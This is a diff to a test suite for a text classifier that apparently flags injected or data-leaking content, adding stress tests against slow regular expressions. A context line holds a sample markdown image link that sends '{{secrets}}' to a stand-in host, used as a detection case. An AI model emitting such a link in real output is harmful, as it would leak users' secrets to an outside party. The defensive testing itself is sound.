@@ -58,3 +58,11 @@ describe("classify", () => {
     expect(classify("![x](https://e.example/p.png?d={{secrets}})").findings.map((f) => f.rule)).toContain("data-link");
   });
 });
+
+describe("hostile sizes", () => {
+  test("long runs of one character class are classified (no rule backtracks quadratically)", () => {
+    // A quadratic rule made a 200 KB tool output take minutes; the test timeout is the guard here.
+    for (const text of ["x".repeat(200_000), "QUJD".repeat(50_000), `](https://a.example/${"a".repeat(100_000)}&${"b".repeat(100_000)}`, "run the ".repeat(25_000), '"name": "'.repeat(20_000)])
+      expect(classify(text).verdict).toBe("evidence");
+  });
+});
